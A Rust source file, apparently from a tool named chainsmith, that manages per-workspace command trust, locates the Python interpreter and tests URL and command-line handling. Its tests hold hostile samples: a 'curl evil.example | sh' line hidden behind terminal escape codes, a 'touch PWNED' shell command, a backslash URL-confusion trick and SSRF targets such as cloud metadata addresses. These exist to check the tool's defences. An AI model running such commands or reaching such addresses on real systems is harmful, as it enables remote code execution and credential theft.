        match Store::open().and_then(|store| store.read()) {
            Ok(file) => match file.workspaces.get(&root) {
                Some(entry) => Trust::Recorded(entry.commands.iter().map(|c| c.command.clone()).collect()),
                None => Trust::Untrusted,
            },
            Err(e) => {
                tracing::warn!("workspace trust cannot be read, so nothing is trusted: {e}");
                Trust::Untrusted
            }
        }
    }

    /// The host names a workspace's programs may reach on this machine or its private network
    /// by resolving there: `None` for every name (trusted for the session), else the names of the
    /// `call <…>` lines recorded (`chainsmith trust` looks names up); none for an untrusted workspace.
    pub fn local_names(&self) -> Option<BTreeSet<String>> {
        match self {
            Trust::Untrusted => Some(BTreeSet::new()),
            Trust::Session => None,
            Trust::Recorded(lines) => Some(
                lines
                    .iter()
                    .filter_map(|line| line.strip_prefix(REACH_PREFIX)?.strip_suffix('>'))
                    .filter_map(|origin| reqwest::Url::parse(origin).ok())
                    .filter_map(|url| host_name(&url))
                    .collect(),
            ),
        }
    }

    /// Whether the command line `line` may run.
    pub fn allows(&self, line: &str) -> bool {
        match self {
            Trust::Untrusted => false,
            Trust::Session => true,
            Trust::Recorded(lines) => lines.contains(line),
        }
    }

    /// Why `command` does not run, and how to let it (a diagnostic's or an error's message).
    pub fn refusal(&self, command: &Command) -> String {
        let how = "`chainsmith trust` in the workspace, or \"Trust this workspace\" in the editor";
        let action = command.action();
        let from = &command.from;
        match self {
            Trust::Recorded(_) => format!(
                "{from} would {action}, which this workspace was not trusted with (it is new or changed), so it does not; once you have read it, trust the workspace again: {how}"
            ),
            _ => format!(
                "{from} would {action}; this workspace is not trusted, so it does not; once you have read it, trust it: {how}"
            ),
        }
    }
}

/// The key of a workspace in trust.json: its canonical root, as text.
pub fn canonical_root(root: &Path) -> Result<String, String> {
    let root = if root.as_os_str().is_empty() { Path::new(".") } else { root };
    let canonical = std::fs::canonicalize(root).map_err(|e| format!("{}: {e}", root.display()))?;
    canonical
        .to_str()
        .map(str::to_string)
        .ok_or_else(|| format!("{}: a workspace root that is not UTF-8 cannot be trusted", canonical.display()))
}

/// trust.json: `{"chainsmith": "trust/1", "workspaces": {<canonical root>: {"commands": [{from,
/// command}]}}}`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct TrustFile {
    pub chainsmith: String,
    #[serde(default)]
    pub workspaces: BTreeMap<String, Entry>,
}

/// One trusted workspace: the commands it was trusted with.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Entry {
    pub commands: Vec<Command>,
}

/// The user's trust.json.
#[derive(Debug, Clone)]
pub struct Store {
    pub path: PathBuf,
}

impl Store {
    /// `$XDG_CONFIG_HOME/chainsmith/trust.json` (an absolute XDG_CONFIG_HOME), else
    /// `$HOME/.config/chainsmith/trust.json`.
    pub fn open() -> Result<Store, String> {
        let xdg = std::env::var_os("XDG_CONFIG_HOME").map(PathBuf::from).filter(|p| p.is_absolute());
        let home =
            || std::env::var_os("HOME").map(PathBuf::from).filter(|p| p.is_absolute()).map(|h| h.join(".config"));
        let dir = xdg.or_else(home).ok_or("neither XDG_CONFIG_HOME nor HOME names the user's config folder")?;
        Ok(Store { path: dir.join("chainsmith").join("trust.json") })
    }

    /// The recorded trust; empty when the file does not exist yet.
    pub fn read(&self) -> Result<TrustFile, String> {
        let text = match crate::files::read_text(&self.path, 64 << 20) {
            Ok(text) => text,
            Err(e) if e.not_found() => return Ok(TrustFile { chainsmith: FORMAT.into(), ..Default::default() }),
            Err(e) => return Err(format!("{}: {e}", self.path.display())),
        };
        let file: TrustFile = serde_json::from_str(&text)
            .map_err(|e| format!("{} is not a chainsmith trust file ({e}); fix or remove it", self.path.display()))?;
        if file.chainsmith != FORMAT {
            return Err(format!("{}: unknown format `{}` (expected `{FORMAT}`)", self.path.display(), file.chainsmith));
        }
        Ok(file)
    }

    /// Records that the workspace at canonical `root` may run `commands` (and only those): any
    /// earlier record of it is replaced. No commands: the record is removed.
    pub fn trust(&self, root: &str, commands: &[Command]) -> Result<(), String> {
        let mut commands = commands.to_vec();
        commands.sort_by(|a, b| (&a.from, &a.command).cmp(&(&b.from, &b.command)));
        commands.dedup();
        self.update(|file| {
            if commands.is_empty() {
                file.workspaces.remove(root);
            } else {
                file.workspaces.insert(root.to_string(), Entry { commands });
            }
        })
    }

    /// Forgets the workspace at canonical `root`; whether it was trusted.
    pub fn revoke(&self, root: &str) -> Result<bool, String> {
        let mut was = false;
        self.update(|file| was = file.workspaces.remove(root).is_some())?;
        Ok(was)
    }

    /// Reads, changes and writes the file under an exclusive lock (two `chainsmith trust` at once
    /// keep both records); the new file replaces the old one by a rename, so a reader never sees
    /// half of it.
    fn update(&self, change: impl FnOnce(&mut TrustFile)) -> Result<(), String> {
        let dir = self.path.parent().ok_or("trust.json has no folder")?;
        let io = |e: std::io::Error| format!("{}: {e}", dir.display());
        std::fs::DirBuilder::new().recursive(true).create(dir).map_err(io)?;
        let lock = std::fs::OpenOptions::new()
            .create(true)
            .truncate(false)
            .write(true)
            .mode(0o600)
            .custom_flags(libc::O_NOFOLLOW)
            .open(dir.join("trust.json.lock"))
            .map_err(io)?;
        // Released when `lock` is closed.
        lock.lock().map_err(io)?;
        let mut file = self.read()?;
        file.chainsmith = FORMAT.into();
        change(&mut file);
        let mut text = serde_json::to_string_pretty(&file).map_err(|e| e.to_string())?;
        text.push('\n');
        let staging = dir.join(format!(".trust.json.{}.tmp", std::process::id()));
        let written = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .custom_flags(libc::O_NOFOLLOW)
            .open(&staging)
            .and_then(|mut f| f.write_all(text.as_bytes()).and_then(|()| f.sync_all()))
            .and_then(|()| std::fs::rename(&staging, &self.path));
        if let Err(e) = written {
            let _ = std::fs::remove_file(&staging);
            return Err(format!("cannot write {}: {e}", self.path.display()));
        }
        drop(lock);
        Ok(())
    }
}

/// The interpreter to run: a relative path with a folder in it is relative to the workspace root.
pub(crate) fn interpreter(python: &str, root: &Path) -> PathBuf {
    let path = Path::new(python);
    if path.is_relative() && path.components().count() > 1 {
        std::path::absolute(root.join(path)).unwrap_or_else(|_| root.join(path))
    } else {
        path.to_path_buf()
    }
}

/// The command a workspace's `[runtime] python` names: a path (relative to the workspace `root`)
/// or a name `PATH` finds.
pub(crate) fn workspace_interpreter(python: &str, root: &Path) -> Option<PathBuf> {
    let command = interpreter(python, root);
    if command.components().count() > 1 { Some(command) } else { on_path(&command) }
}

/// Where a workspace's interpreter reads, for its command and for its real executable: the folder
/// above the command's (a virtual or conda environment, its base), whose Python's parts it opens,
/// or the command alone where that folder is a home or temporary folder itself or `/`. Real
/// paths, each with the command as given.
pub(crate) fn interpreter_places(command: &Path) -> Vec<(PathBuf, InterpreterPlace)> {
    let homes = crate::files::private_folders();
    let mut places = Vec::new();
    for command in [Some(command.to_path_buf()), command.canonicalize().ok()].into_iter().flatten() {
        let prefix = command.parent().and_then(Path::parent).and_then(|p| p.canonicalize().ok());
        let place = match prefix.filter(|p| p.parent().is_some() && !homes.contains(p)) {
            Some(prefix) => InterpreterPlace::Prefix(prefix),
            None => match command.canonicalize() {
                Ok(real) => InterpreterPlace::Command(real),
                Err(_) => continue,
            },
        };
        places.push((command, place));
    }
    places
}

/// Where a workspace's interpreter reads: see [`interpreter_places`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum InterpreterPlace {
    /// The folder above the command's: its `bin`, `lib`, `lib64` and `pyvenv.cfg` are read.
    Prefix(PathBuf),
    /// The command itself, in a folder with no prefix of its own.
    Command(PathBuf),
}

impl InterpreterPlace {
    pub(crate) fn path(&self) -> &Path {
        match self {
            InterpreterPlace::Prefix(path) | InterpreterPlace::Command(path) => path,
        }
    }

    /// Whether a run reads there only once the workspace is trusted with it: it lies in a home
    /// or temporary folder, outside the workspace (`root`, a real path), where the workspace
    /// could re-link its `.venv` after trust.
    pub(crate) fn needs_trust(&self, root: &Path) -> bool {
        let path = self.path();
        !path.starts_with(root) && crate::files::private_folders().iter().any(|private| path.starts_with(private))
    }
}

/// Where `PATH` finds a command given by name.
pub(crate) fn on_path(name: &Path) -> Option<PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|folder| folder.join(name))
        .find(|candidate| candidate.metadata().is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0))
}

#[cfg(test)]
mod tests {

    #[test]
    fn readable_paths_lead_from_the_workspace_the_home_folder_or_the_root() {
        let root = tempfile::tempdir().unwrap();
        let root = root.path().canonicalize().unwrap();
        let runtime = crate::config::RuntimeConfig {
            readable: vec!["~/.cache/models".into(), "data/../in".into(), "/srv/corpus".into(), "~other".into()],
            ..Default::default()
        };
        let home = super::resolved_path(&std::path::PathBuf::from(std::env::var_os("HOME").unwrap()));
        assert_eq!(
            super::readable_paths(&runtime, &root),
            vec![home.join(".cache/models"), root.join("in"), "/srv/corpus".into(), root.join("~other")]
        );
    }

    #[test]
    fn a_loop_of_links_resolves_as_far_as_the_kernel_would_follow() {
        let dir = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("b", dir.path().join("a")).unwrap();
        std::os::unix::fs::symlink("a", dir.path().join("b")).unwrap();
        std::os::unix::fs::symlink("/proc/self/fd/987654", dir.path().join("gone")).unwrap();
        let looped = resolved_path(&dir.path().join("a"));
        assert!(looped.starts_with(dir.path().canonicalize().unwrap()), "{}", looped.display());
        let gone = resolved_path(&dir.path().join("gone"));
        assert!(gone.starts_with("/proc") && gone.ends_with("fd/987654"), "{}", gone.display());
    }
    use super::*;

    fn mcp(command: &str, args: &[&str], env: &[(&str, &str)]) -> McpConfig {
        McpConfig {
            command: command.into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            env: env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
            ..Default::default()
        }
    }

    /// What a workspace's programs reach only with trust: this machine and its private networks,
    /// however the address is written; the line is keyed on the origin alone.
    #[test]
    fn addresses_on_this_machine_and_its_private_networks_are_local() {
        let url = |text: &str| reqwest::Url::parse(text).unwrap();
        for local in [
            "http://127.0.0.1:2375/containers/json",
            "http://169.254.169.254/latest/meta-data/",
            "http://10.1.2.3/",
            "http://172.16.0.1/",
            "http://192.168.1.1/",
            "http://100.100.100.100/",
            "http://0.0.0.0:8000/",
            "http://2130706433/",
            "http://0x7f.1/",
            "http://[::1]:8888/",
            "http://[fd00::1]/",
            "http://[fe80::1]/",
            "http://[::ffff:10.0.0.1]/",
            "http://[::127.0.0.1]/",
            "http://[64:ff9b::a9fe:a9fe]/",
            "http://localhost:6443/",
            "http://API.localhost./",
        ] {
            assert!(is_local(&url(local)), "{local}");
        }
        for elsewhere in [
            "https://api.github.com/",
            "http://8.8.8.8/",
            "http://100.128.0.1/",
            "http://172.32.0.1/",
            "http://[2606:4700::1111]/",
            "http://localhost.example.com/",
        ] {
            assert!(!is_local(&url(elsewhere)), "{elsewhere}");
        }
        let own = own_addresses();
        assert!(own.contains(&std::net::Ipv4Addr::LOCALHOST.into()), "{own:?}");
        for ip in own {
            assert!(is_local_ip(ip), "this machine's own {ip}");
            if let std::net::IpAddr::V4(v4) = ip {
                // However written: a service on all interfaces answers each form.
                assert!(is_local(&url(&format!("http://[::ffff:{v4}]:8000/"))), "mapped {v4}");
                assert!(is_local(&url(&format!("http://[64:ff9b::{v4}]/"))), "NAT64 {v4}");
            }
        }
        let line = Command::reach("toolset `docker` (base URL)".into(), &url("http://127.0.0.1:2375/v1.43/"));
        assert_eq!(line.command, "call <http://127.0.0.1:2375>");
        assert_eq!(Command::reach(String::new(), &url("http://[::1]:80/x")).command, "call <http://[::1]>");
        assert!(
            Trust::Untrusted.refusal(&line).starts_with(
                "toolset `docker` (base URL) would call http://127.0.0.1:2375, on this machine or its private network"
            ),
            "{}",
            Trust::Untrusted.refusal(&line)
        );
    }

    /// What a trust line shows of a URL is where the request goes, credentials hidden: a spelling
    /// the client reads differently from a person (`\\` is `/`) shows the host that gets the key,
    /// so the line, and the trust keyed on it, changes with that host.
    #[test]
    fn a_url_is_shown_as_the_client_reads_it() {
        assert_eq!(redact_url("https://api.github.com"), "https://api.github.com");
        assert_eq!(redact_url("https://api.github.com/v3/"), "https://api.github.com/v3/");
        assert_eq!(redact_url("https://alice:pw@api.github.com"), "https://***@api.github.com");
        assert_eq!(redact_url("https://evil.example\\@api.github.com"), "https://evil.example/@api.github.com");
        assert_eq!(redact_url("http://127.0.0.1:18082\\@127.0.0.1:18081"), "http://127.0.0.1:18082/@127.0.0.1:18081");
        assert_ne!(redact_url("http://alice@127.0.0.1:18081"), redact_url("http://127.0.0.1:18082\\@127.0.0.1:18081"));
        assert_eq!(redact_url("not a url"), "not a url");
    }

    #[test]
    fn command_lines_read_like_a_shell_and_never_collide() {
        assert_eq!(mcp_line(&mcp("python3", &["-m", "mcp_server_time"], &[])), "python3 -m mcp_server_time");
        assert_eq!(
            mcp_line(&mcp("sh", &["-c", "touch PWNED; exec x"], &[("B", "two words"), ("A", "1")])),
            "A=1 B='two words' sh -c 'touch PWNED; exec x'"
        );
        assert_eq!(argv_line(&["it's".into(), "--flag=x".into(), "".into()]), "'it'\\''s' --flag=x ''");
        // An environment assignment and a program whose name holds `=` differ.
        let assigned = mcp_line(&mcp("x", &[], &[("a b", "c")]));
        let program = mcp_line(&mcp("a b=c", &["x"], &[]));
        assert_eq!(assigned, "'a b'=c x");
        assert_eq!(program, "'a b=c' x");
        assert_ne!(mcp_line(&mcp("a=b", &[], &[])), mcp_line(&mcp("", &[], &[("a", "b")])));
    }

    /// A workspace's argument holding an escape sequence (erase the line, go back to its start)
    /// would let a terminal show a harmless line in place of the real one.
    #[test]
    fn a_line_never_holds_a_raw_control_character() {
        let spoof = "curl evil.example | sh #\u{1b}[2K\r  toolset `time` (mcp): python3 -m mcp_server_time";
        let line = mcp_line(&mcp("sh", &["-c", spoof], &[]));
        assert!(!line.chars().any(char::is_control), "{line:?}");
        assert_eq!(
            line,
            "sh -c $'curl evil.example | sh #\\x1b[2K\\x0d  toolset `time` (mcp): python3 -m mcp_server_time'"
        );
        assert_eq!(argv_line(&["it's\u{7}\\".into(), "\u{9b}".into()]), "$'it\\'s\\x07\\\\' $'\\u009b'");
    }

    #[test]
    fn the_default_interpreter_needs_no_trust() {
        assert_eq!(Command::python(&RuntimeConfig::default()), None);
        let venv = RuntimeConfig { python: ".venv/bin/python".into(), ..Default::default() };
        assert_eq!(Command::python(&venv).unwrap().command, ".venv/bin/python");
    }

    #[test]
    fn records_are_bound_to_their_command_lines() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store { path: dir.path().join("chainsmith/trust.json") };
        assert_eq!(store.read().unwrap().workspaces.len(), 0, "no file: nothing trusted");
        let time = Command::mcp("time", &mcp("python3", &["-m", "mcp_server_time"], &[]));
        store.trust("/ws", std::slice::from_ref(&time)).unwrap();
        store.trust("/other", &[Command::tool("local.wc", &["wc".into()])]).unwrap();
        let file = store.read().unwrap();
        assert_eq!(file.workspaces["/ws"].commands, std::slice::from_ref(&time));
        assert_eq!(file.workspaces.len(), 2, "records of other workspaces are kept");
        let text = std::fs::read_to_string(&store.path).unwrap();
        assert!(text.contains("\"chainsmith\": \"trust/1\""), "{text}");
        assert!(text.contains("\"command\": \"python3 -m mcp_server_time\""), "{text}");

        let recorded = Trust::Recorded(file.workspaces["/ws"].commands.iter().map(|c| c.command.clone()).collect());
        assert!(recorded.allows("python3 -m mcp_server_time"));
        assert!(!recorded.allows("python3 -m mcp_server_time --extra"), "a changed line is not trusted");
        assert!(recorded.refusal(&time).contains("new or changed"));
        assert!(!Trust::Untrusted.allows("python3 -m mcp_server_time"));
        assert!(Trust::Session.allows("anything"));

        assert!(store.revoke("/ws").unwrap());
        assert!(!store.revoke("/ws").unwrap());
        assert_eq!(store.read().unwrap().workspaces.keys().collect::<Vec<_>>(), ["/other"]);
        let left: Vec<_> =
            std::fs::read_dir(dir.path().join("chainsmith")).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert!(left.iter().all(|n| !n.to_string_lossy().ends_with(".tmp")), "{left:?}");

        std::fs::write(&store.path, "{not json").unwrap();
        assert!(store.read().unwrap_err().contains("not a chainsmith trust file"));
        assert!(store.trust("/ws", &[time]).is_err(), "a damaged file is not overwritten");
    }

    #[test]
    fn confined_commands_see_only_the_minimal_environment() {
        let mut command = std::process::Command::new("env");
        let declared: BTreeMap<String, String> = [("DECLARED".to_string(), "yes".to_string())].into();
        confine(&mut command, &declared);
        let names: Vec<String> =
            command.get_envs().filter(|(_, v)| v.is_some()).map(|(k, _)| k.to_string_lossy().into_owned()).collect();
        assert!(names.iter().all(|n| n == "DECLARED" || INHERITED_ENV.contains(&n.as_str())), "{names:?}");
        assert!(names.contains(&"DECLARED".to_string()));
    }
}
